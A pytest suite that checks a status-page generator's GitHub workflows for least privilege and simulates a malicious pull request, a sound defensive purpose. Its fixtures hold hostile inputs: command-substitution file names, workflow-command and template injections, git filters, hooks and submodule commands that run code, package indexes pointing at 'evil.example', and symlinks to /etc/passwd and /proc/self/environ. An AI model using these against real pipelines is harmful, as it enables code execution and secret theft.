"""What GitHub runs: least rights, pinned, and unharmed by what a pull request brings along."""

import re
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.workflows import (
    CHECK,
    ROOT,
    SKELETON,
    SUDO,
    WORKFLOWS,
    Machine,
    git,
    jobs_of,
    program,
    read,
    steps_of,
)

USES = re.compile(r"^\s*(?:- )?uses: (\S+)(.*)$", re.MULTILINE)
PINNED = re.compile(r"[\w-]+/[\w-]+(/[\w-]+)?@[0-9a-f]{40}")
#: of the jobs of publish.yml, besides what all may
PUBLISHING_RIGHTS = {
    "deploy": {"contents": "read", "id-token": "write"},
    "pages": {"contents": "read", "pages": "write", "id-token": "write"},
}
every_workflow = pytest.mark.parametrize(
    "path", WORKFLOWS, ids=[path.relative_to(ROOT).as_posix() for path in WORKFLOWS]
)


# As it is written


@every_workflow
def test_actions_are_pinned_and_say_their_version(path: Path) -> None:
    found = USES.findall(path.read_text("utf-8"))
    assert found
    for action, comment in found:
        assert PINNED.fullmatch(action), action
        assert re.fullmatch(r" # v\d+\.\d+\.\d+", comment), f"{action}{comment}"


def test_an_action_is_the_same_commit_everywhere() -> None:
    texts = [path.read_text("utf-8") for path in WORKFLOWS]
    found = {action for text in texts for action, _ in USES.findall(text)}
    owners = {
        ("/".join(action.split("@")[0].split("/")[:2]), action.split("@")[1]) for action in found
    }
    assert len(owners) == len({name for name, _ in owners})


@every_workflow
def test_a_workflow_may_read_and_nothing_more(path: Path) -> None:
    assert read(path)["permissions"] == {"contents": "read"}
    more = {name: job["permissions"] for name, job in jobs_of(path).items() if "permissions" in job}
    assert more == (PUBLISHING_RIGHTS if path.name == "publish.yml" else {})


@every_workflow
def test_secrets_are_for_the_job_that_publishes(path: Path) -> None:
    """And there for the step that needs them."""
    text = re.sub(r"#.*", "", path.read_text("utf-8"))
    jobs = jobs_of(path)
    steps = jobs["deploy"]["steps"] if "deploy" in jobs else []
    known = [value for step in steps for value in step.get("env", {}).values()]
    assert text.count("secrets.") == sum("secrets." in value for value in known)
    assert "secrets[" not in text
    assert "secrets: inherit" not in text


@every_workflow
def test_no_event_hands_rights_to_a_fork(path: Path) -> None:
    events = read(path)[True]  # to YAML 1.1, `on` is a boolean
    found = {events} if isinstance(events, str) else set(events)
    safe = {"pull_request", "push", "schedule", "workflow_dispatch"}
    # what has rights is never begun by a pull request
    assert found <= (safe - {"pull_request"} if path.name == "publish.yml" else safe)


@every_workflow
def test_no_script_is_made_of_what_others_typed(path: Path) -> None:
    assert not [step["run"] for step in steps_of(path) if "${{" in step.get("run", "")]


@every_workflow
def test_no_checkout_leaves_a_token_behind(path: Path) -> None:
    checkouts = [step for step in steps_of(path) if "checkout@" in step.get("uses", "")]
    assert checkouts
    assert all(step["with"]["persist-credentials"] is False for step in checkouts)


@every_workflow
def test_a_job_ends_and_runs_where_nothing_is_kept(path: Path) -> None:
    for job in jobs_of(path).values():
        assert job["timeout-minutes"] <= 30
        assert job["runs-on"].startswith("ubuntu-")
    assert "cache" not in {key for step in steps_of(path) for key in step.get("with", {})}
    if path.name != "publish.yml":
        assert "actions/cache" not in path.read_text("utf-8")


@every_workflow
def test_libraries_are_installed_by_hash_alone(path: Path) -> None:
    scripts = [step["run"] for step in steps_of(path) if "pip install" in step.get("run", "")]
    lines = [line for script in scripts for line in script.splitlines() if "pip install" in line]
    assert lines or path.name == "test.yml"
    for line in lines:
        assert {"--require-hashes", "--no-deps", "--only-binary"} <= set(line.split())


def test_a_new_site_has_the_same_check_of_pull_requests() -> None:
    """But for where Fogbell comes from, which has a commit of its own there."""

    def but_for_fogbell(path: Path) -> str:
        begin, end = "      # The program that judges", "      # What is judged"
        before, _, rest = path.read_text("utf-8").partition(begin)
        return before + rest.partition(end)[2]

    assert but_for_fogbell(SKELETON / ".github/workflows/check.yml") == but_for_fogbell(CHECK)


@pytest.mark.parametrize("name", ["publish.yml", "watch.yml"])
def test_a_new_site_publishes_and_watches_in_the_same_way(name: str) -> None:
    """But for where Fogbell comes from."""

    def but_for_fogbell(path: Path) -> str:
        text = path.read_text("utf-8")
        text = re.sub(r"      #[^\n]*\n(      - name: Fetch Fogbell)", r"\1", text)
        return re.sub(r"          repository: your-organisation/fogbell\n +ref: \S+\n", "", text)

    ours, theirs = (top / ".github/workflows" / name for top in (ROOT, SKELETON))
    assert "repository:" not in ours.read_text("utf-8")
    assert theirs.read_text("utf-8").count("ref: ") == theirs.read_text("utf-8").count("Fetch Fog")
    assert but_for_fogbell(theirs) == but_for_fogbell(ours)


def test_a_new_site_has_the_same_form_for_pull_requests() -> None:
    file = ".github/PULL_REQUEST_TEMPLATE.md"
    assert (SKELETON / file).read_bytes() == (ROOT / file).read_bytes()


# As it runs, on the pull request of somebody who means ill

SITE = """\
title: Acme Status
url: https://status.acme.example
components:
  - {id: api, name: API}
"""
INCIDENT = """\
---
title: "::error::of a title; $(touch x) `touch x`"
impact: major
components: {api: partial_outage}
---

## Investigating — 2026-11-20 10:15 UTC
next update: 30m

Saving fails with an error. We are looking into it.

::error::injected

::set-output name=x::injected

::add-path::/injected

::stop-commands::injected

##[add-path]/injected

````
# out of the fence
````

<b>bold</b> ${{ github.token }} {{7*7}} {% include "/etc/passwd" %}
"""


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    """A runner on which Fogbell is set up, and a home where git would run a filter."""
    (tmp_path / "temp").mkdir()
    (tmp_path / "ran").mkdir()
    (tmp_path / "secret.txt").write_text("canary-of-the-disk", "utf-8")
    (tmp_path / "summary.md").touch()
    program(tmp_path / "bin" / "sudo", SUDO)
    program(tmp_path / "temp/venv/bin/python", f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
    marks = f"touch {tmp_path}/ran/filter; cat"
    home = f'[filter "lfs"]\n\tsmudge = "{marks}"\n\tclean = "{marks}"\n\trequired = true\n'
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".gitconfig").write_text(home, "utf-8")
    return Machine(tmp_path)


def receive(machine: Machine, change: Callable[[Path], None]) -> None:
    """Both checkouts of the workflow, for a pull request that makes this change."""
    repository = machine.folder / "repository"
    ignored = shutil.ignore_patterns("__pycache__")
    for name in ("generator", "themes"):
        shutil.copytree(ROOT / name, repository / name, ignore=ignored)
    shutil.copy(ROOT / "build.py", repository)
    write(repository, "content/site.yml", SITE)
    git(repository, "init", "--quiet")
    commit(repository, "base")
    git(repository, "switch", "--quiet", "--create", "theirs")
    change(repository)
    commit(repository, "theirs")
    git(repository, "switch", "--quiet", "--force", "main")
    git(repository, "merge", "--quiet", "--no-ff", "-m", "merge", "theirs")
    for folder, revision in (("fogbell", "HEAD^1"), ("merged", "HEAD")):
        place = machine.workspace / folder
        place.mkdir(parents=True)
        git(place, "init", "--quiet")
        wanted = git(repository, "rev-parse", revision)
        git(place, "fetch", "--quiet", "--depth=2", repository.as_uri(), wanted)
        git(place, "checkout", "--quiet", "FETCH_HEAD")


def write(folder: Path, name: str, text: str) -> None:
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, "utf-8")


def commit(repository: Path, message: str) -> None:
    git(repository, "-c", "filter.lfs.clean=cat", "add", "--all", "--force")
    git(repository, "commit", "--quiet", "-m", message)


def harmful_code(machine: Machine, repository: Path) -> None:
    """Files that a careless program would run, each leaving a mark."""
    mark = machine.folder / "ran"
    python = "import os, pathlib\npathlib.Path({!r}).write_text(repr(os.environ))\n"
    for name in (
        *("conftest.py", "sitecustomize.py", "usercustomize.py", "build.py", "yaml.py"),
        *("generator/__init__.py", "generator/cli.py", "jinja2/__init__.py", "setup.py"),
        *("content/sitecustomize.py", "content/conftest.py", "content/yaml.py"),
    ):
        write(repository, name, python.format(str(mark / name.replace("/", "-"))))
    write(repository, "Makefile", f"all:\n\ttouch {mark}/make\n")
    write(repository, ".gitattributes", "* filter=lfs diff=evil merge=evil\n")
    write(repository, "content/.gitattributes", "* filter=lfs diff=evil\n")
    write(repository, ".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch\n')
    write(repository, ".lfsconfig", "[lfs]\n\turl = https://evil.example/\n")
    write(repository, "pip.conf", "[global]\nindex-url = https://evil.example/\n")
    write(repository, "requirements/runtime.txt", "evil\n")
    write(repository, ".cache/build.json", "{")
    program(repository / ".venv/bin/python", f"#!/bin/sh\ntouch {mark}/venv\n")
    program(repository / ".git-hooks/post-checkout", f"#!/bin/sh\ntouch {mark}/hook\n")
    write(repository, "themes/default/index.html", "theme-of-the-fork {{ [].__class__ }}")
    (repository / "output").symlink_to(machine.folder)


def harmful_names(repository: Path) -> None:
    for name in ('"; touch x #', "$(touch x)", "`touch x`", "a\n::error::named", "-rf", "%0A::e::"):
        write(repository, f"content/incidents/{name}.md", INCIDENT)
        write(repository, f"{name}.md", "")


def harmful_files(machine: Machine, repository: Path) -> None:
    """Links out of the folder, and what is too large to read."""
    incidents = repository / "content" / "incidents"
    write(repository, "content/incidents/big.md", INCIDENT + "x" * 10_000_000)
    write(repository, "content/incidents/out.md", f"{INCIDENT}\n[a](../../../../etc/passwd)\n")
    (incidents / "passwd.md").symlink_to("/etc/passwd")
    (incidents / "secret.md").symlink_to(machine.folder / "secret.txt")
    (incidents / "environ.md").symlink_to("/proc/self/environ")
    (incidents / "folder").symlink_to("/etc")
    (repository / "content" / "media").symlink_to(machine.folder)
    (repository / "content" / "templates").symlink_to("/")


def run_check(machine: Machine) -> tuple[int, str]:
    """The steps up to the check, less what installs; gives how it ended and all it said."""
    keep, install, check, _ = (step for step in steps_of(CHECK) if "run" in step)
    assert "pip install" in install["run"]
    kept = machine.run(keep)
    assert kept.returncode == 0, kept.stderr
    checked = machine.run(check)
    return checked.returncode, f"{kept.stdout}{kept.stderr}{checked.stdout}{checked.stderr}"


def run_preview(machine: Machine) -> tuple[int, str]:
    built = machine.run([step for step in steps_of(CHECK) if "run" in step][-1])
    return built.returncode, built.stdout + built.stderr


def published(machine: Machine) -> str:
    files = [path for path in machine.preview.rglob("*") if path.is_file()]
    assert not [path for path in machine.preview.rglob("*") if path.is_symlink()]
    return "\n".join(path.read_text("utf-8", "replace") for path in files)


def assert_unharmed(machine: Machine, *texts: str) -> None:
    assert not list((machine.folder / "ran").iterdir())
    assert not [path for path in machine.folder.rglob("x") if "node" not in path.parts]
    said = "\n".join([*texts, machine.summary])
    for leaked in ("canary-of-the-disk", "canary-of-the-environment", "root:x:0", "theme-of-the"):
        assert leaked not in said


def orders_in(said: str) -> set[str]:
    """What GitHub would take for a command of the job."""
    return {line for line in said.splitlines() if re.match(r"\s*(::|##\[)", line)}


def test_code_beside_good_content_is_neither_run_nor_shown(machine: Machine) -> None:
    def change(repository: Path) -> None:
        harmful_code(machine, repository)
        write(repository, "content/incidents/2026-11-20-saving-fails.md", INCIDENT)

    receive(machine, change)
    code, said = run_check(machine)
    orders = orders_in(said)
    assert code in (0, 1)
    assert not [each for each in orders if "title=FILE" in each]
    assert all(re.match(r"::(error|warning) file=content/[^:]+::[^\n]", each) for each in orders)
    assert "Review them as code" in machine.summary
    assert re.search(r"outside content/: 2\d\.", machine.summary)
    kept = {path.name for path in (machine.workspace / "merged").iterdir()}
    assert kept <= {".git", ".cache", "content", "themes"}
    (fence,) = set(re.findall("^(`+)text$", machine.summary, re.MULTILINE)) - {"```"}
    assert len(fence) > 4
    code, built = run_preview(machine)
    first, *rest = built.splitlines()
    assert code == 0, built
    assert re.fullmatch(r"::stop-commands::[0-9a-f]{32}", first)
    assert not [line for line in rest if line.startswith("::")]
    page = published(machine)
    assert "Saving fails with an error." in page
    assert_unharmed(machine, said, built, page)


def test_names_and_links_and_sizes_are_problems_and_no_more(machine: Machine) -> None:
    def change(repository: Path) -> None:
        harmful_names(repository)
        harmful_files(machine, repository)

    receive(machine, change)
    code, said = run_check(machine)
    assert code == 1
    orders = orders_in(said)
    assert all(re.match(r"::(error|warning) file=content/[^:]+::[^\n]", each) for each in orders)
    for problem in ("passwd.md", "secret.md", "environ.md", "is too large", "incidents/folder"):
        assert [each for each in orders if problem in each], problem
    code, built = run_preview(machine)
    assert code == 1
    assert not machine.preview.exists()
    assert_unharmed(machine, said, built)


def test_content_that_is_a_link_is_not_followed(machine: Machine) -> None:
    def change(repository: Path) -> None:
        shutil.rmtree(repository / "content")
        (repository / "content").symlink_to(machine.folder)

    receive(machine, change)
    code, said = run_check(machine)
    assert code == 1
    assert_unharmed(machine, said)


def test_themes_of_the_base_print_the_preview(machine: Machine) -> None:
    def change(repository: Path) -> None:
        shutil.rmtree(repository / "themes")
        (repository / "themes").symlink_to(machine.folder)
        write(repository, "content/incidents/2026-11-20-saving-fails.md", INCIDENT)

    receive(machine, change)
    run_check(machine)
    code, built = run_preview(machine)
    assert code == 0, built
    assert "Saving fails" in (machine.preview / "index.html").read_text("utf-8")
    themes = machine.workspace / "merged" / "themes"
    assert not themes.is_symlink()
    assert (themes / "default" / "theme.toml").is_file()


def test_a_change_of_content_alone_needs_no_word_about_code(machine: Machine) -> None:
    receive(machine, lambda folder: write(folder, "content/incidents/2026-11-20-a.md", INCIDENT))
    run_check(machine)
    assert "Review them as code" not in machine.summary
